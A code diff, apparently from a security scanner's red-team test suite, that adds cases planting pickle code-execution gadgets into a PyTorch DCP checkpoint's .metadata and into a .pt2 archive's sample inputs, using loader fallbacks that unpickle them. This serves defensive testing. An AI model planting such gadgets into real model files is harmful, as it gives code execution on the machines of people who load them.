@@ -203,6 +203,43 @@ def _(d: Path) -> Path:
     return torch_zip(d / "model.pt", with_payload(payload))
 
 
+def _planted_append_pickle(proto: int = 2) -> Asm:
+    a = Asm(proto)
+    _namespace(a, ("append", _dict_config))
+    return _config(a).op("APPEND")
+
+
+@case("dcp_metadata_planted_append", "redteam", exploit("dangerous-global", DICT_CONFIG, "dcp"))
+def _(d: Path) -> Path:
+    # The gadget inside DCP's .metadata, before its STOP: FileSystemReader.read_metadata runs it.
+    import pickletools
+    import shutil
+
+    folder = d / "ckpt"
+    shutil.copytree(Path(__file__).resolve().parents[2] / "sample_models" / "dcp_training", folder)
+    data = (folder / ".metadata").read_bytes()
+    stop = next(at for op, _, at in pickletools.genops(data) if op.name == "STOP")
+    gadget = _planted_append_pickle(proto=0).op("POP").getvalue()
+    (folder / ".metadata").write_bytes(data[:stop] + gadget + b".")
+    return folder
+
+
+@case("pt2_sample_inputs_planted_append", "redteam", exploit("dangerous-global", DICT_CONFIG, "torch.export.load"))
+def _(d: Path) -> Path:
+    # torch.export.load falls back to torch.load(weights_only=False) for a program's example inputs.
+    inner = io.BytesIO()
+    with zipfile.ZipFile(inner, "w") as z:
+        z.writestr(_info("model/data.pkl"), _planted_append_pickle().op("STOP").getvalue())
+        z.writestr(_info("model/version"), b"3\n")
+    src = Path(__file__).resolve().parents[2] / "sample_models" / "export_frozen.pt2"
+    out = d / "model.pt2"
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, "w") as zout:
+        for info in zin.infolist():
+            data = inner.getvalue() if info.filename.endswith("sample_inputs/model.pt") else zin.read(info.filename)
+            zout.writestr(info, data)
+    return out
+
+
 # --- torch's dependencies --------------------------------------------------------------------------------
 
 
@@ -397,13 +434,16 @@ def _(d: Path) -> Path:
 
 
 def warmups(folder: Path) -> list[Path]:
-    """Benign files of the formats these cases reach: a legacy file, a legacy tar, a plain pickle."""
+    """Benign files of the formats these cases reach: a legacy file, a legacy tar, a plain pickle, a .pt2."""
     import shutil
 
+    samples = Path(__file__).resolve().parents[2] / "sample_models"
     legacy = folder / "legacy.pt"
-    shutil.copy(Path(__file__).resolve().parents[2] / "sample_models" / "legacy_cnn.pt", legacy)
+    shutil.copy(samples / "legacy_cnn.pt", legacy)
+    pt2 = folder / "export.pt2"
+    shutil.copy(samples / "export_frozen.pt2", pt2)
     members = [("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)), ("tensors", pickle.dumps(0, 2))]
     tar = _tar(folder / "legacy_tar.pt", [*members, ("pickle", pickle.dumps({}, 2))])
     plain = folder / "plain.pt"
     plain.write_bytes(pickle.dumps({"a": 1}, 2))
-    return [legacy, tar, plain]
+    return [legacy, tar, plain, pt2]
